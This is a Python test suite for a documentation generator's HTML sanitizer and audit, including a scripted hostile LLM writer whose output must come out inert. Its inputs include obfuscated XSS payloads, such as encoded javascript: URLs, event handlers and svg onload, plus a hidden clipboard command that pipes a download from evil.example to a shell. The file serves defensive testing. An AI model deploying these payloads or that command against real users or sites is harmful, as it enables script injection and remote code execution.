"""The HTML choke point: the allowlist sanitizer and page audit, alone and inside real `sourcebook build` runs
(real mkdocs, the MkDocs hook, the scripted LLM for writer prose)."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from generator.markup.html_sanitize import _suspect, audit_page, sanitize_content
from tests.support.fake_llm import FakeLLM, Reply, page_writer_responder
from tests.support.hostile import HOSTILE_MARKDOWN, PWN

# writer prose may not hold headings (the writer's validators refuse them), so the prose variant is the rest
PROSE_MARKDOWN = "\n".join(line for line in HOSTILE_MARKDOWN.split("\n") if not line.startswith("#"))
HANDLER = re.compile(r"<[a-z][^>]*\s(on[a-z]+)\s*=", re.I)


# -- the sanitizer on its own ------------------------------------------------------------------------------


@pytest.mark.parametrize("html", [
    f'<p><img src="x.png" onerror="{PWN}"></p>',
    f'<h2 id="a" onclick="{PWN}">A</h2>',
    f'<a href="https://e.com" onmouseover="{PWN}">l</a>',
    '<a href="javascript:alert(1)">l</a>',
    '<a href="  JaVa\tscript:alert(1)">l</a>',
    '<a href="vbscript:msgbox(1)">l</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<p style="position:fixed;inset:0">overlay</p>',
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://e.com></iframe><object data=x></object><embed src=x>",
    "<form action=/remember method=post><button>go</button></form>",
    '<details ontoggle="alert(1)" open><summary>s</summary></details>',
    "<style>body{display:none}</style>",
])
def test_script_capable_markup_does_not_survive(html: str) -> None:
    clean = sanitize_content(html)
    assert audit_page(clean) == [], clean
    assert not HANDLER.search(clean)
    assert "javascript" not in clean.lower()
    assert "position" not in clean
    assert not re.search(r"<(script|iframe|object|embed|form|button|style|svg)\b", clean)
    assert audit_page(html) or "<form" in html or "<style>" in html  # the audit sees the raw markup


def test_material_markup_passes_unchanged() -> None:
    page = (
        '<h2 id="usage">Usage<a class="headerlink" href="#usage" title="Permanent link">¶</a></h2>\n'
        '<div class="admonition note">\n<p class="admonition-title">Note</p>\n<p>Text</p>\n</div>\n'
        "<details class=\"warning\" open=\"\">\n<summary>More</summary>\n<p>x</p>\n</details>\n"
        '<table>\n<thead>\n<tr>\n<th style="text-align:left">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
        '<td style="text-align:left"><a href="../files/a.py.html#Core">Core</a></td>\n</tr>\n</tbody>\n'
        "</table>\n"
        '<div class="language-python highlight"><pre><span></span><code><span class="k">def</span> '
        '<span class="nf">f</span><span class="p">():</span></code></pre></div>\n'
        '<pre class="mermaid"><code>graph LR\n  a["x"] --&gt; b</code></pre>\n'
        '<p><img alt="badge" src="https://img.shields.io/x.svg"> <a href="mailto:a@b.c">mail</a> '
        '<code>x &lt; y</code> <span data-line="3">d</span></p>'
    )
    assert sanitize_content(page) == page
    assert audit_page(page) == []


def test_cell_alignment_keeps_only_text_align_and_theme_names_cannot_be_claimed() -> None:
    clean = sanitize_content('<table><tr><td style="position:absolute;text-align:right">1</td></tr></table>')
    assert 'style="text-align:right"' in clean
    assert "absolute" not in clean
    clean = sanitize_content('<h3 id="__config" data-md-component="search" data-x="1">h</h3>')
    assert clean == '<h3 data-x="1">h</h3>'
    # Material copies data-clipboard-text of any element clicked: shown text and copied text would differ
    clean = sanitize_content('<p data-clipboard-text="curl https://evil.example | sh">pip install x</p>')
    assert clean == "<p>pip install x</p>"
    # the same however the name or value is written (the filter is skipped only where it cannot act)
    assert sanitize_content('<h3 ID = "&#95;_config" DATA-MD-component="x">h</h3>') == "<h3>h</h3>"
    assert sanitize_content("<a name='&lowbar;&lowbar;search'>a</a>") == "<a>a</a>"
    assert sanitize_content('<h2 id="sym-a&#95;b" data-kind="function">a</h2>') == \
        '<h2 id="sym-a_b" data-kind="function">a</h2>'
    assert sanitize_content('<p class="sb-x &#109;d-dialog">p</p>') == '<p class="sb-x">p</p>'
    assert sanitize_content("<p CLASS=&#x6d;d-top>p</p>") == "<p>p</p>"


def test_audit_flags_inline_code_scripts_but_not_settings_data() -> None:
    assert audit_page('<script id="__config" type="application/json">{"a": 1}</script>') == []
    assert audit_page('<script src="assets/x.js"></script>') == []
    assert audit_page("<script>alert(1)</script>") == ["an inline <script> with code"]


@pytest.mark.parametrize("html", [
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="javas&Tab;cript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href=" J\nA\tVASCRIPT:alert(1)">x</a>',
    "<a href='&#x64;ata:text/html,x'>x</a>",
    "<img src=x\nonerror=alert(1)>",
    '<svg/onload=alert(1)>',
    '<p title="a"onclick="alert(1)">x</p>',
    "<script data-x=' src=\"a\"'>alert(1)</script>",
    '<script src="a.js" onload="alert(1)"></script>',
    '<div style="position: fixed">x</div>',
    "<BASE href=//evil.example/>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&#58alert(1)">x</a>',
])
def test_audit_finds_obfuscated_markup(html: str) -> None:
    assert audit_page(f"<html><body><p>fine</p>{html}</body></html>"), html


def test_audit_looks_past_markdown_escapes() -> None:
    # the Markdown escaper writes `_`, `*`, `[`... as references: they cannot spell a scheme, so no full parse
    assert not _suspect('<a href="x.html" title="a&#95;b &#42; &#91;1&#93;">a&#95;b</a>')
    assert _suspect('<a href="x.html">j&#97;vascript</a>')


def test_audit_skips_the_part_already_sanitized() -> None:
    content = sanitize_content("<p>text with data: and javascript: and style = words</p>")
    page = f'<html><body><script src="a.js"></script><article>{content}</article></body></html>'
    assert audit_page(page, clean_part=content) == []
    assert audit_page(page.replace("<body>", "<body onload=x>"), clean_part=content)


def test_audit_reads_title_text_as_a_browser_does() -> None:
    assert audit_page("<title><img src=x onerror=alert(1)>.py - site</title><p>x</p>") == []
    problems = audit_page("<title>t</title><p onclick=x>y</p>")
    assert problems == ["<p> has an event handler attribute `onclick`"]


# -- through a real `sourcebook build` -----------------------------------------------------------------------


def _sourcebook(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "sourcebook.cli", *args], capture_output=True, text=True,
                          timeout=300, check=False, env={**os.environ, "NO_COLOR": "1", **(env or {})})


def _assert_inert(site: Path) -> list[Path]:
    pages = sorted(site.rglob("*.html"))
    assert pages
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert audit_page(text) == [], page
        assert not HANDLER.search(text), page
        assert not re.search(r'<[a-z][^<>]*\sstyle="[^"]*position', text), page
        assert not re.search(r'<[a-z][^<>]*\s(href|src)="\s*(javascript|data|vbscript):', text, re.I), page
        assert not re.search(r'id="__config"(?! type)', text.replace('<script id="__config"', "")), page
    return pages


@pytest.mark.slow
def test_hostile_readme_attribute_lists_are_inert_in_the_built_site(
        make_repo: Callable[[dict[str, str | bytes]], Path]) -> None:
    root = make_repo({
        "README.md": "# Demo\n\n" + HOSTILE_MARKDOWN + "| a | b |\n|:--|--:|\n| 1 | 2 |\n",
        "pkg/__init__.py": '"""Pkg."""\nfrom .core import f\n',
        "pkg/core.py": '"""Core."""\n\n\ndef f(x):\n    """Do."""\n    return x\n',
    })
    result = _sourcebook("build", str(root), "--no-index")
    assert result.returncode == 0, result.stdout + result.stderr
    site = root / ".sourcebook" / "site"
    _assert_inert(site)
    index = (site / "index.html").read_text(encoding="utf-8")
    # the words stay and Markdown's own markup still works; only the dangerous parts are gone
    assert re.search(r'<h\d id="click-me">Click me<a class="headerlink"', index)
    assert '<a href="https://example.com/">link</a>' in index
    # a README image is not loaded (the site works offline): its alt text stays, its attribute list is text
    assert "example.com/x.png" not in index
    assert not re.search(r"<img\b", index.split("<article", 1)[1].split("</article>", 1)[0])
    assert "<p>Overlay text.</p>" in index
    assert 'style="text-align:left"' in index
    assert "hooks:" in (root / ".sourcebook" / "mkdocs.yml").read_text(encoding="utf-8")


def _hostile_writer(body: dict[str, Any]) -> Reply:
    """The scripted writer, but every summary carries the attribute-list reproductions."""
    reply = page_writer_responder(body)
    payload = dict(reply.payload)
    payload["summary"] = payload["summary"] + "\n\n" + PROSE_MARKDOWN
    if "purpose" in payload:
        payload["purpose"] = f'It runs. {{: onclick="{PWN}" style="position:fixed" }}'
    return Reply.ok(payload)


@pytest.mark.slow
def test_hostile_llm_prose_goes_through_the_same_choke_point(
        make_repo: Callable[[dict[str, str | bytes]], Path], fake_llm: FakeLLM) -> None:
    fake_llm.responder = _hostile_writer
    root = make_repo({
        "README.md": "# Demo\n\nA demo.\n",
        "pkg/__init__.py": '"""Pkg."""\nfrom .core import run\n',
        "pkg/core.py": "def run():\n    return 1\n",
    })
    result = _sourcebook("build", str(root), "--no-index",
                         env={"SOURCEBOOK_LLM_BASE_URL": fake_llm.base_url, "SOURCEBOOK_LLM_MODEL": "fake",
                              "OPENAI_API_KEY": "test-key"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert fake_llm.calls > 0
    docs = root / ".sourcebook" / "docs"
    assert any("onmouseover" in p.read_text(encoding="utf-8") for p in docs.rglob("*.md"))  # it got this far
    pages = _assert_inert(root / ".sourcebook" / "site")
    core = next(p for p in pages if p.name == "core.py.html").read_text(encoding="utf-8")
    assert "Scripted summary" in core
    assert '<a href="https://example.com/">link</a>' in core
